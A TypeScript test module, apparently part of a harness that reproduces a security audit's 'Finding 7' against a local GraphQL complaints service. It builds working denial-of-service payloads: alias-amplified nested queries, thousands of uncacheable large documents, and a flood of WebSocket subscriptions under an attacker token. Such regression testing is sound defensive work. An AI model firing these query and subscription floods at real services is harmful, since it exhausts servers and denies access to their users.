/** Finding 7: documents within every size limit that request a lot. */
import { WebSocket } from 'ws'
import type { Attack, Scene } from '../attack.ts'
import { looped, paced, pause } from '../client.ts'
import { COMPLAINT, repeated } from '../payloads.ts'

const NODE = `id reference description deadlines { kind state dueOn } history(first: 50) { edges { node { type at } } }
  letters { edges { node { subject } } } messages { edges { node { id } } } notes { edges { node { id } } }`

/** Nineteen pages of 200 complaints with nested lists. */
export const costlyDocument = (aliases = 19): string =>
  `{ ${repeated(aliases, index => `a${index}: complaints(first: 200) { edges { node { ${NODE} } } }`)} }`

export const graphqlCost: Attack = {
  name: 'graphql-cost',
  finding: 7,
  title: '12 documents of 19 aliases of complaints(first: 200) with nested lists, three at once',
  async play ({ send, signal }) {
    const body = JSON.stringify({ query: costlyDocument() })
    await looped(3, 12, signal, () => send({ path: '/graphql', body }))
  },
}

export const graphqlAliases: Attack = {
  name: 'graphql-aliases',
  finding: 7,
  title: '12 documents with 90 aliases of explanations, verifications and histories in each of 200 complaints',
  async play ({ send, signal }) {
    const fields = repeated(30, index => `
      e${index}: deadlineExplanation(kind: FIRST_LINE) { steps { text } }
      v${index}: historyVerification { valid }
      h${index}: history(first: 200) { edges { node { type } } }`)
    const body = JSON.stringify({ query: `{ complaints(first: 200) { edges { node { ${fields} } } } }` })
    await looped(3, 12, signal, () => send({ path: '/graphql', body }))
  },
}

/** Each document is different, so a compiled document is never reused. */
export const graphqlDocuments: Attack = {
  name: 'graphql-documents',
  finding: 7,
  title: '240 documents of 20 to 48 KB, no two alike: comments, 320 fields to be compared pair by pair, many aliases',
  async play ({ send, people: { attackerComplaint }, signal }) {
    const ofComplaint = (fields: string) => `{ complaint(id: "${attackerComplaint}") { ${fields} } }`
    const paired = repeated(320, index => `deadlines { kind ${index % 2 ? 'state' : 'dueOn'} }`)
    const kinds = [
      (at: number) => `{ me { id } } #${String(at).repeat(20_000).slice(0, 48_000)}`,
      (at: number) => `${ofComplaint(paired)} #${at}`,
      (at: number) => ofComplaint(repeated(90, index => `a${at}_${index}: deadlines { kind state dueOn }`)),
    ]
    await paced(240, 22, signal, at => send({ path: '/graphql', body: { query: kinds[at % kinds.length]!(at) } }))
  },
}

const SOCKETS = 20
const SUBSCRIPTIONS = 20
/** Each counts as one request of the client, which may send 50 a second. */
const SUBSCRIBE_EVERY_MS = 24
const CHANGES = 40

export const subscriptions: Attack = {
  name: 'subscriptions',
  finding: 7,
  title: `${SOCKETS * SUBSCRIPTIONS} subscriptions of one client over ${SOCKETS} sockets, ${CHANGES} changes for all`,
  events: true,
  playMs: 20_000,
  async play (scene) {
    const sockets: WebSocket[] = []
    for (let count = 0; count < SOCKETS && !scene.signal.aborted; count++) {
      sockets.push(await subscriber(scene))
      await pause(SUBSCRIPTIONS * SUBSCRIBE_EVERY_MS, scene.signal)
    }
    await paced(CHANGES, 100, scene.signal, () => scene.send({ path: '/v1/complaints', body: COMPLAINT }))
    await pause(1_500, scene.signal)
    for (const socket of sockets) socket.terminate()
  },
}

const FOLLOW = `subscription { complaintChanged { id type complaint { ${NODE} } } }`

/** A socket with the maximum number of subscriptions; its messages count as answers. */
function subscriber ({ service: { port }, tokens, client: { answers } }: Scene): Promise<WebSocket> {
  const socket = new WebSocket(`ws://127.0.0.1:${port}/graphql`, 'graphql-transport-ws', {
    handshakeTimeout: 5_000, localAddress: '127.0.0.66',
  })
  const say = (message: object) => socket.send(JSON.stringify(message))
  const count = (what: string) => answers.set(what, (answers.get(what) ?? 0) + 1)
  return new Promise(resolve => {
    socket.on('open', () => say({ type: 'connection_init', payload: { Authorization: `Bearer ${tokens.attacker}` } }))
    socket.on('error', () => { count('socket failed'); resolve(socket) })
    socket.on('close', code => { if (code !== 1006) count(`close ${code}`); resolve(socket) })
    socket.on('message', data => {
      const { type } = JSON.parse(String(data)) as { type: string }
      if (type === 'connection_ack') {
        for (let id = 0; id < SUBSCRIPTIONS; id++) {
          say({ type: 'subscribe', id: String(id), payload: { query: FOLLOW } })
        }
        resolve(socket)
      } else if (type === 'ping') {
        say({ type: 'pong' })
      } else {
        count(type)
      }
    })
  })
}
